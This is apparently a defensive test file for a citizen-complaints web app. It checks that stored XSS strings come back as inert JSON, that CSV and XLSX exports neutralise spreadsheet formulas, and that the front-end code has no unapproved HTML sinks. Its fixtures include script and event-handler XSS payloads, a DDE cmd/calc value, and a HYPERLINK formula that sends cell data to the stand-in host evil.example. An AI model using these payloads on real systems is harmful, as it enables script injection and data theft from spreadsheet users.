// Stored XSS: hostile strings stored through the citizen and staff forms come back as data (JSON, verbatim), the
// exports neutralise spreadsheet formulas (CSV) and write text cells (XLSX), and the web code has no HTML sink or
// link built from data without a reason on record. The browser side (tracking page, staff case page) is
// e2e/xss.e2e.test.ts.
import { readdirSync, readFileSync, statSync } from 'node:fs';
import { join, relative } from 'node:path';
import { inflateRawSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { csvLines } from '../core/http/export.js';
import { parseCsv } from '../core/org/csv.js';
import { createCitizenTestApp, type Headers } from '../modules/complaints/server/citizen-test-app.js';
import { createStaff, createTree } from '../test/factories.js';
import { HOSTILE_STRINGS, hostileString } from './support.js';

const XSS = {
  subject: '<script>window.__xss=1</script> چاله',
  body: '<img src=x onerror="window.__xss=1"> "><svg onload=window.__xss=1> شرح',
  name: '=HYPERLINK("http://evil.example/?"&A1,"جایزه")',
  address: 'javascript:window.__xss=1',
  note: '<iframe src="javascript:window.__xss=1"></iframe>+SUM(1,2)',
  template: '@SUM(1+1)*cmd|\' /C calc\'!A0 <b onmouseover=alert(1)>',
};

let t: Awaited<ReturnType<typeof createCitizenTestApp>>;
let staff: Headers;
let admin: Headers;
let code: string;
let id: string;
beforeAll(async () => {
  t = await createCitizenTestApp();
  const tree = await createTree(t.db);
  await createStaff(t.db, [['district.reviewer', tree.district]], { username: 'dr', password: 'secret-pass' });
  await createStaff(t.db, [['admin', null]], { username: 'adm', password: 'secret-pass' });
  staff = await t.login('dr');
  admin = await t.login('adm');
  const citizen = (await t.citizenLogin('09129990001')).headers;
  const pothole = (await t.category('pothole')).id;
  const res = await t.app.inject({ method: 'POST', url: '/api/v1/complaints', headers: citizen, payload: { kind: 'complaint', categoryId: pothole, divisionId: tree.city.id, subject: XSS.subject, body: XSS.body, name: XSS.name, address: XSS.address, answers: { pothole_size: 'large', dangerous: true } } });
  expect(res.statusCode).toBe(201);
  code = res.json().trackingCode;
  const list = await t.app.inject({ url: '/api/v1/complaints', headers: staff });
  id = list.json().items.find((i: { trackingCode: string }) => i.trackingCode === code).id;
});
afterAll(async () => { await t.close(); });

/** The entries of an XLSX (a ZIP), by name, walked through the local headers. */
function unzip(buf: Buffer): Record<string, string> {
  const out: Record<string, string> = {};
  const dir = buf.lastIndexOf(Buffer.from('PK\x05\x06', 'latin1'));
  let at = buf.readUInt32LE(dir + 16);
  for (let k = 0; k < buf.readUInt16LE(dir + 10); k++) {
    const method = buf.readUInt16LE(at + 10);
    const size = buf.readUInt32LE(at + 20);
    const name = buf.subarray(at + 46, at + 46 + buf.readUInt16LE(at + 28)).toString();
    const local = buf.readUInt32LE(at + 42);
    const data = local + 30 + buf.readUInt16LE(local + 26) + buf.readUInt16LE(local + 28);
    const raw = buf.subarray(data, data + size);
    out[name] = (method === 8 ? inflateRawSync(raw) : raw).toString();
    at += 46 + buf.readUInt16LE(at + 28) + buf.readUInt16LE(at + 30) + buf.readUInt16LE(at + 32);
  }
  return out;
}

/** The fields of a CSV (RFC 4180), row after row, read by the platform's own CSV reader. */
const csvFields = (text: string): string[] => parseCsv(text).records.flatMap((r) => r.fields);

describe('hostile strings stored through the forms come back as data', () => {
  it('the public tracking answer and the citizen\'s own view return them verbatim, as JSON', async () => {
    const track = await t.app.inject({ url: `/api/v1/complaints/track/${code}` });
    expect(track.statusCode, track.body).toBe(200);
    expect(track.headers['content-type']).toMatch(/^application\/json/);
    // The public page shows no citizen text at all, or shows it as the same string.
    for (const v of Object.values(track.json()).filter((x): x is string => typeof x === 'string')) expect(v).not.toMatch(/<script>(?!window.__xss=1<\/script> چاله)/);
    expect(track.headers['x-content-type-options']).toBe('nosniff');
  });

  it('the staff list, case and notes return them verbatim', async () => {
    const c = await t.app.inject({ url: `/api/v1/complaints/${id}`, headers: staff });
    expect(c.statusCode).toBe(200);
    const text = JSON.stringify(c.json());
    for (const v of [XSS.subject, XSS.body, XSS.address]) expect(text).toContain(JSON.stringify(v).slice(1, -1));
    const note = await t.app.inject({ method: 'POST', url: `/api/v1/complaints/${id}/notes`, headers: staff, payload: { body: XSS.note } });
    expect(note.statusCode).toBeLessThan(300);
    expect(JSON.stringify((await t.app.inject({ url: `/api/v1/complaints/${id}`, headers: staff })).json())).toContain(JSON.stringify(XSS.note).slice(1, -1));
    const tpl = await t.app.inject({ method: 'POST', url: '/api/v1/complaints/templates', headers: admin, payload: { title: XSS.subject, body: XSS.template } });
    expect(tpl.statusCode).toBe(201);
    const templates = await t.app.inject({ url: '/api/v1/complaints/templates', headers: staff });
    expect(JSON.stringify(templates.json())).toContain(JSON.stringify(XSS.template).slice(1, -1));
  });
});

describe('exports', () => {
  it('CSV: no cell starts with = + - @ (formula injection); the hostile text is there behind an apostrophe', async () => {
    const res = await t.app.inject({ url: '/api/v1/complaints/export?format=csv', headers: staff });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-disposition']).toMatch(/^attachment;/);
    const fields = csvFields(res.body);
    expect(fields.filter((f) => /^[=+\-@\t\r]/.test(f) && !/^-?\d+(\.\d+)?$/.test(f))).toEqual([]);
    expect(fields).toContain(`'${XSS.name}`);
    expect(fields).toContain(XSS.subject);
  });

  it('CSV: for any text, every written cell is safe and reads back as the text (property)', async () => {
    await fc.assert(fc.asyncProperty(fc.array(fc.oneof(hostileString, fc.constantFrom(...HOSTILE_STRINGS.map((s) => `=${s}`), '+1', '-cmd', '@x', '\t=1', "'\t", "'=1")), { minLength: 1, maxLength: 5 }), async (cells) => {
      let text = '';
      // A first column that is never empty, so a row of empty cells is still a row for the reader.
      const columns = [{ key: 'n', title: 'ردیف' }, ...cells.map((_, i) => ({ key: String(i), title: `ستون ${i}` }))];
      for await (const chunk of csvLines(columns, [{ n: '۱', ...Object.fromEntries(cells.map((c, i) => [String(i), c])) }])) text += chunk;
      const row = csvFields(text).slice(columns.length + 1);
      expect(row).toHaveLength(cells.length);
      row.forEach((f, i) => {
        expect(f).not.toMatch(/^[=+\-@\t\r]/);
        // The text itself, behind one apostrophe when it starts a formula (a text that already starts with an
        // apostrophe stays as it is, so stripping one back would be ambiguous: compare the written cell).
        const c = cells[i]!;
        expect(f).toBe(/^[=+\-@\t\r]/.test(c) ? `'${c}` : c);
      });
    }), { numRuns: 200 });
  });

  it('XLSX: text cells only (no formula element), the hostile text stored as a string', async () => {
    const res = await t.app.inject({ url: '/api/v1/complaints/export?format=xlsx', headers: staff });
    expect(res.statusCode).toBe(200);
    const files = unzip(res.rawPayload);
    const sheets = Object.entries(files).filter(([n]) => n.startsWith('xl/worksheets/')).map(([, x]) => x).join('');
    expect(sheets).toContain('<sheetData');
    expect(sheets).not.toMatch(/<f[\s>]/);
    const strings = ((files['xl/sharedStrings.xml'] ?? '') + sheets).replace(/&quot;/g, '"').replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&amp;/g, '&');
    expect(strings).toContain(XSS.name);
    expect(strings).toContain(XSS.subject);
  });
});

describe('the web code (static check)', () => {
  // Each use of an HTML sink or of a link/navigation built from an expression, with the reason it is safe.
  const ALLOWED: { file: string; match: RegExp; reason: string }[] = [
    { file: 'src/web/components/PrintSheet.tsx', match: /dangerouslySetInnerHTML=\{\{ __html: inlineSvg\(verify\.qrSvg\) \}\}/, reason: 'the QR code SVG is generated on the server by the qrcode library from the verification URL; no person writes any of it' },
    { file: 'src/web/components/map/SitesMap.tsx', match: /a\.href = href|href=\{p\.href\}/, reason: 'map points link to the app\'s own pages (built from record ids in map/*.ts), never to a stored URL' },
    { file: 'src/web/components/map/base.tsx', match: /window\.location\.assign\(href\)/, reason: 'the same map links: paths of the app' },
    { file: 'src/web/download.ts', match: /a\.href = url;/, reason: 'a blob: URL the page itself just made with URL.createObjectURL' },
    { file: 'src/web/staff/lists.tsx', match: /href=\{`\$\{path\}\.(csv|xlsx)\$\{qs\}`\}/, reason: 'export links: `path` is a constant API path given by each list page; `qs` is URLSearchParams output' },
  ];
  const SINKS = /dangerouslySetInnerHTML|\.innerHTML\s*=|outerHTML|insertAdjacentHTML|document\.write|\beval\(|new Function\(/;
  // A link or navigation whose target is not a literal path of the app ('/…', `/…`, '#…').
  const NAVIGATION = /(?:href=\{|\.href\s*=|location\.(?:assign|replace)\(|window\.open\(|location\.href\s*=)\s*(?=\S)(?![`'"](?:\/|#|mailto:|tel:))/;

  function files(dir: string): string[] {
    return readdirSync(dir).flatMap((n) => {
      const p = join(dir, n);
      return statSync(p).isDirectory() ? files(p) : /\.(tsx?|jsx?)$/.test(n) && !/\.test\./.test(n) ? [p] : [];
    });
  }

  it('no HTML sink and no link built from data, except the allowlisted ones (each with its reason)', () => {
    const root = join(import.meta.dirname, '..', '..');
    const found: string[] = [];
    const used = new Set<number>();
    for (const f of files(join(root, 'src', 'web'))) {
      const rel = relative(root, f).replaceAll('\\', '/');
      readFileSync(f, 'utf8').split('\n').forEach((line, i) => {
        if (!SINKS.test(line) && !NAVIGATION.test(line)) return;
        const ok = ALLOWED.findIndex((a) => a.file === rel && a.match.test(line));
        if (ok >= 0) used.add(ok);
        else found.push(`${rel}:${i + 1}: ${line.trim()}`);
      });
    }
    expect(found).toEqual([]);
    // An allowlist entry whose code is gone must be removed, not kept as a blank cheque.
    expect(ALLOWED.filter((_, i) => !used.has(i)).map((a) => a.file)).toEqual([]);
  });

  it('the CSV the browser makes itself (download.ts) applies the same formula guard as the server\'s exports', () => {
    const src = readFileSync(join(import.meta.dirname, '..', 'web', 'download.ts'), 'utf8');
    expect(src).toMatch(/import \{[^}]*formulaSafe[^}]*\} from '..\/core\/http\/csv-text.js'/);
    expect(src).toMatch(/formulaSafe\(v\)/);
  });

  it('the check itself catches the sinks it is meant to catch', () => {
    for (const bad of ['<div dangerouslySetInnerHTML={{ __html: x }} />', 'el.innerHTML = name;', '<Anchor href={plan.website}>', 'a.href = url;', 'window.open(link)', 'location.assign(next)']) {
      expect(SINKS.test(bad) || NAVIGATION.test(bad), bad).toBe(true);
    }
    for (const good of ['<Anchor href="/track">', '<Anchor href={`/api/v1/documents/${id}`}>', "a.href = '/app';"]) expect(SINKS.test(good) || NAVIGATION.test(good), good).toBe(false);
  });
});
